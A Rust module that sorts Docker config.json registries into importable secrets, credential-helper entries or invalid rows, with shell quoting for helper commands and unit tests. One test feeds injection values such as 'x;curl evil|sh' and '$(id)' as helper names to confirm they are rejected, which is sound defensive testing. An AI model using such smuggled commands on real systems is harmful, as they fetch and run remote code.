//! Docker `config.json` import: one row per registry, saying whether its
//! credentials can become a secret, live in a credential helper, or are invalid.

use std::collections::BTreeSet;

use serde_json::Value;

use crate::dockerconfig::{
    entry_path, kind, parse_object, read_entry, ConfigError, ConfigWarning, DockerConfig,
    EntryRead, RegistryEntry, Rules,
};
use crate::helper::HelperName;
use crate::name::SecretName;

#[derive(Debug, Clone, PartialEq, Eq)]
pub struct ImportRow {
    /// The registry as written in the file.
    pub server: String,
    pub status: ImportStatus,
}

#[derive(Debug, Clone, PartialEq, Eq)]
pub enum ImportStatus {
    Importable {
        entry: Box<RegistryEntry>,
        /// Valid by construction and unique within one import.
        suggested_name: SecretName,
        warnings: Vec<ConfigWarning>,
    },
    /// The file only says which helper holds the credentials; the name
    /// passed `valid_helper_name` (a name that does not is an `Invalid` row).
    InHelper {
        helper: HelperName,
    },
    Invalid {
        reason: String,
    },
}

impl ImportRow {
    /// The `.dockerconfigjson` for this row, when it is importable.
    pub fn dockerconfig(&self) -> Option<DockerConfig> {
        match &self.status {
            ImportStatus::Importable { entry, .. } => Some(DockerConfig::single((**entry).clone())),
            _ => None,
        }
    }
}

/// The shell command that prints what a helper holds for `server`
/// (`{"ServerURL", "Username", "Secret"}` on stdout). Only a checked
/// [`HelperName`] becomes part of it; the server is quoted.
pub fn helper_command(helper: &HelperName, server: &str) -> String {
    format!(
        "echo {} | docker-credential-{helper} get",
        shell_quote(server)
    )
}

fn shell_quote(s: &str) -> String {
    if s.chars()
        .all(|c| c.is_ascii_alphanumeric() || "-._:/@[]".contains(c))
    {
        s.to_owned()
    } else {
        format!("'{}'", s.replace('\'', r"'\''"))
    }
}

/// Classifies every registry in a Docker `config.json`. Only a document that
/// is not a JSON object, or whose `auths`/`credHelpers`/`credsStore` have the
/// wrong type, is an error; a bad entry is an `Invalid` row.
pub fn classify(config_json: &str) -> Result<Vec<ImportRow>, ConfigError> {
    classify_with(config_json, Rules::Input)
}

/// [`classify`] with the rules an entry is read by: the decoder reads a
/// Secret as it was stored (`email: "unused"`, which kubectl never checked,
/// still shows its credentials); an import makes new secrets, so every rule.
pub(crate) fn classify_with(
    config_json: &str,
    rules: Rules,
) -> Result<Vec<ImportRow>, ConfigError> {
    let root = parse_object(config_json)?;
    let empty = serde_json::Map::new();
    let auths = match root.get("auths") {
        None | Some(Value::Null) => &empty,
        Some(Value::Object(a)) => a,
        Some(other) => {
            return Err(ConfigError::new(
                "$.auths",
                format!("must be an object, not {}", kind(other)),
            ))
        }
    };
    let creds_store = match root.get("credsStore") {
        None | Some(Value::Null) => None,
        Some(Value::String(s)) if s.is_empty() => None,
        Some(Value::String(s)) => Some(s.clone()),
        Some(other) => {
            return Err(ConfigError::new(
                "$.credsStore",
                format!("must be a string (a helper name), not {}", kind(other)),
            ))
        }
    };
    let helpers: Vec<(String, String)> = match root.get("credHelpers") {
        None | Some(Value::Null) => Vec::new(),
        Some(Value::Object(h)) => h
            .iter()
            .map(|(server, v)| match v {
                Value::String(name) => Ok((server.clone(), name.clone())),
                other => Err(ConfigError::new(
                    format!("$.credHelpers[{server:?}]"),
                    format!("must be a string (a helper name), not {}", kind(other)),
                )),
            })
            .collect::<Result<_, _>>()?,
        Some(other) => {
            return Err(ConfigError::new(
                "$.credHelpers",
                format!(
                    "must be an object of registry → helper, not {}",
                    kind(other)
                ),
            ))
        }
    };
    let helper_for = |server: &str| {
        helpers
            .iter()
            .find(|(s, _)| s == server)
            .map(|(_, h)| h.clone())
            .or_else(|| creds_store.clone())
    };

    let mut rows = Vec::new();
    let mut taken = BTreeSet::new();
    for (server, value) in auths {
        let status = match read_entry(server, value, rules) {
            Ok(EntryRead::Credentials(entry, warning)) => {
                let suggested_name = unique(entry.registry.suggested_name(), &mut taken);
                ImportStatus::Importable {
                    entry,
                    suggested_name,
                    warnings: warning.into_iter().collect(),
                }
            }
            Ok(EntryRead::NoCredentials) => match helper_for(server) {
                Some(helper) => in_helper(&entry_path(server), &helper),
                None => ImportStatus::Invalid {
                    reason: format!(
                        "{}: has no credentials and no credential helper is configured; run `docker login {server}` again or add \"auth\"",
                        entry_path(server)
                    ),
                },
            },
            Err(e) => ImportStatus::Invalid {
                reason: e.to_string(),
            },
        };
        rows.push(ImportRow {
            server: server.clone(),
            status,
        });
    }
    for (server, helper) in &helpers {
        if !auths.contains_key(server) {
            rows.push(ImportRow {
                server: server.clone(),
                status: in_helper(&format!("$.credHelpers[{server:?}]"), helper),
            });
        }
    }
    Ok(rows)
}

/// The row of a registry whose credentials live in `helper`. A name that is
/// not a program name would become part of one (the CLI runs it, the console
/// shows the command), so it is refused here, where config.json is read.
fn in_helper(path: &str, helper: &str) -> ImportStatus {
    match HelperName::parse(helper) {
        Some(helper) => ImportStatus::InHelper { helper },
        None => ImportStatus::Invalid {
            reason: format!(
                "{path}: the credential helper name {helper:?} is not a program name (letters, digits, '-', '_', '.'); fix config.json"
            ),
        },
    }
}

fn unique(base: SecretName, taken: &mut BTreeSet<String>) -> SecretName {
    let mut candidate = base.clone();
    let mut n = 2;
    while taken.contains(candidate.as_str()) {
        let suffix = format!("-{n}");
        let mut stem = base.as_str().to_owned();
        stem.truncate(crate::name::MAX_NAME_LEN - suffix.len());
        candidate = SecretName::suggest(&format!("{stem}{suffix}"));
        n += 1;
    }
    taken.insert(candidate.as_str().to_owned());
    candidate
}

/// Room left under the secret quota, from the quota route's answer: how many
/// new secrets an import may still make. The console and the CLI both plan
/// imports with it.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct QuotaRoom {
    pub max: u64,
    pub used: u64,
}

impl QuotaRoom {
    /// None when the answer has no usage (it was asked `quotaOnly`).
    pub fn of(q: &crate::api::QuotaResponse) -> Option<QuotaRoom> {
        q.usage.as_ref().map(|u| QuotaRoom {
            max: q.quota.max_count,
            used: u.count,
        })
    }

    /// How many more secrets fit.
    pub fn free(&self) -> u64 {
        self.max.saturating_sub(self.used)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn helper_command_quotes_when_needed() {
        let name = |n| HelperName::parse(n).unwrap();
        assert_eq!(
            helper_command(&name("desktop"), "https://index.docker.io/v1/"),
            "echo https://index.docker.io/v1/ | docker-credential-desktop get"
        );
        assert_eq!(
            helper_command(&name("x"), "a b'c"),
            r"echo 'a b'\''c' | docker-credential-x get"
        );
    }

    #[test]
    fn a_helper_name_that_is_a_command_is_never_a_helper_row() {
        for config in [
            r#"{"auths":{"ghcr.io":{}},"credsStore":"x;curl evil|sh"}"#,
            r#"{"auths":{"ghcr.io":{}},"credHelpers":{"ghcr.io":"$(id)"}}"#,
            // A credHelpers entry with no auths entry is a row of its own.
            r#"{"credHelpers":{"gcr.io":"x;curl evil|sh"}}"#,
        ] {
            let rows = classify(config).unwrap();
            assert_eq!(rows.len(), 1, "{config}");
            match &rows[0].status {
                ImportStatus::Invalid { reason } => {
                    assert!(reason.contains("not a program name"), "{reason}")
                }
                other => panic!("{config}: {other:?}"),
            }
        }
    }

    #[test]
    fn suggested_names_are_unique() {
        let rows = classify(
            r#"{"auths":{"docker.io":{"auth":"YTpi"},"https://index.docker.io/v1/":{"auth":"YTpi"}}}"#,
        )
        .unwrap();
        let names: Vec<_> = rows
            .iter()
            .map(|r| match &r.status {
                ImportStatus::Importable { suggested_name, .. } => suggested_name.to_string(),
                other => panic!("{other:?}"),
            })
            .collect();
        assert_eq!(names, ["docker-hub", "docker-hub-2"]);
    }
}
